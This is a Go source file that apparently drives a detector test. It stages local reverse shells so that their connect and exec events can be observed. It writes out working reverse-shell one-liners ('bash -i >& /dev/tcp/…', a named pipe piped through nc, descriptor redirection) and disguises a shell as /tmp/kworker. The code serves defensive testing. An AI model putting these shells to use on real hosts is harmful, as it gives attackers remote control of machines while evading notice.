package actor

import (
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"time"

	"golang.org/x/sys/unix"
)

// The far end of a reverse shell sends the command and expects the reply, which only a shell computes from it.
const (
	shellCommand = "echo vedette-$((6*7))\nexit\n"
	shellReply   = "vedette-42"
)

// reverseShell plays both sides: reverse-shell HOW ADDRESS. It listens on the address as the attacker does, has a child
// process give a shell away to it, and checks that the shell obeyed.
func reverseShell(args []string) error {
	if len(args) != 2 {
		return errors.New("reverse-shell takes a way and an address to listen on")
	}
	l, err := net.Listen("tcp", args[1])
	if err != nil {
		return err
	}
	defer l.Close()
	peer, err := netip.ParseAddrPort(l.Addr().String())
	if err != nil {
		return err
	}
	command, err := shellVictim(args[0], peer)
	defer os.Remove(fifo())
	if err != nil {
		return err
	}
	obeyed := make(chan error, 1)
	go func() { obeyed <- command42(l) }()

	c := exec.Command(command[0], command[1:]...)
	c.Stdout, c.Stderr = os.Stdout, os.Stderr
	c.WaitDelay = time.Second
	if !reportsItself(args[0]) {
		report(now(), "connect", peer.String(), nil)
	}
	if err := c.Start(); err != nil {
		return err
	}
	waited := make(chan error, 1)
	go func() { waited <- c.Wait() }()
	select {
	case err = <-obeyed:
	case <-time.After(10 * time.Second):
		err = errors.New("no shell came")
	}
	if err != nil {
		c.Process.Kill()
		return fmt.Errorf("reverse shell by %s: %w", args[0], err)
	}
	select {
	case <-waited: // The exit code is the victim's last command's and says nothing.
	case <-time.After(5 * time.Second):
		c.Process.Kill()
		return fmt.Errorf("reverse shell by %s: the victim does not end", args[0])
	}
	return nil
}

// reportsItself says whether the victim is an actor that reports the moment of its own connect(2), which is more exact.
func reportsItself(how string) bool { return how == "dup" || how == "dup-bash" || how == "renamed" }

// fifo is where this process makes a named pipe, if it does.
func fifo() string { return fmt.Sprintf("/tmp/f%d", os.Getpid()) }

// command42 is the attacker: it sends a command to whoever comes and checks the reply.
func command42(l net.Listener) error {
	c, err := l.Accept()
	if err != nil {
		return err
	}
	defer c.Close()
	return order(c)
}

// shellVictim returns the command of the process that gives its shell away.
func shellVictim(how string, peer netip.AddrPort) ([]string, error) {
	self, err := os.Executable() // In a shell's hands, /proc/self/exe would be the shell.
	if err != nil {
		return nil, err
	}
	host, port, fifo := peer.Addr().String(), fmt.Sprint(peer.Port()), fifo()
	switch how {
	case "dup":
		return []string{self, Argument, "shell", peer.String(), "/bin/sh"}, nil
	case "dup-bash":
		return []string{self, Argument, "shell", peer.String(), "/bin/bash"}, nil
	case "renamed":
		hidden := fmt.Sprintf("/tmp/kworker-%d", os.Getpid())
		return []string{self, Argument, "shell", peer.String(), hidden}, copyFile("/bin/sh", hidden)
	case "bash-tcp":
		return []string{"bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/%s/%s 0>&1", host, port)}, nil
	case "bash-descriptor":
		return []string{"bash", "-c", fmt.Sprintf("exec 5<>/dev/tcp/%s/%s; sh <&5 >&5 2>&5", host, port)}, nil
	case "fifo-nc":
		return []string{"sh", "-c", fmt.Sprintf("sh -i <%s 2>&1 | nc %s %s >%s", fifo, host, port, fifo)}, unix.Mkfifo(fifo, 0o600)
	case "fifo-relay":
		nc := self + " " + Argument + " netcat"
		return []string{"sh", "-c", fmt.Sprintf("sh -i <%s 2>&1 | %s %s >%s", fifo, nc, peer, fifo)}, unix.Mkfifo(fifo, 0o600)
	case "pipes":
		return []string{self, Argument, "netcat", peer.String(), "/bin/sh"}, nil
	}
	return nil, fmt.Errorf("no way %q to give a shell away", how)
}

// shellOnSocket connects and becomes a shell on the connection: shell ADDRESS SHELL.
func shellOnSocket(args []string) error {
	if len(args) != 2 {
		return errors.New("shell takes an address and a shell")
	}
	peer, err := netip.ParseAddrPort(args[0])
	if err != nil {
		return err
	}
	family, address := sockaddr(peer, false)
	fd, err := unix.Socket(family, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	at := now()
	err = unix.Connect(fd, address)
	report(at, "connect", peer.String(), err)
	if err != nil {
		return err
	}
	report(now(), "execve", args[1], nil)
	if err := stdio(fd); err != nil {
		return err
	}
	if err := unix.Close(fd); err != nil {
		return err
	}
	return unix.Exec(args[1], []string{args[1]}, os.Environ())
}

// netcat copies between a connection and its own standard streams, or a program's: netcat ADDRESS [PROGRAM].
func netcat(args []string) error {
	if len(args) == 0 || len(args) > 2 {
		return errors.New("netcat takes an address and perhaps a program")
	}
	c, err := net.Dial("tcp", args[0])
	if err != nil {
		return err
	}
	defer c.Close()
	if len(args) == 1 {
		go func() {
			io.Copy(c, os.Stdin)
			c.(*net.TCPConn).CloseWrite()
		}()
		_, err = io.Copy(os.Stdout, c)
		return err
	}
	program := exec.Command(args[1])
	in, err := program.StdinPipe()
	if err != nil {
		return err
	}
	// Neither stream is the connection itself: the program sees pipes only.
	program.Stdout, program.Stderr = writerOnly{c}, writerOnly{c}
	if err := program.Start(); err != nil {
		return err
	}
	go func() {
		io.Copy(in, c)
		in.Close()
	}()
	return program.Wait()
}

// writerOnly hides what else a connection is, so that exec puts a pipe in between.
type writerOnly struct{ io.Writer }
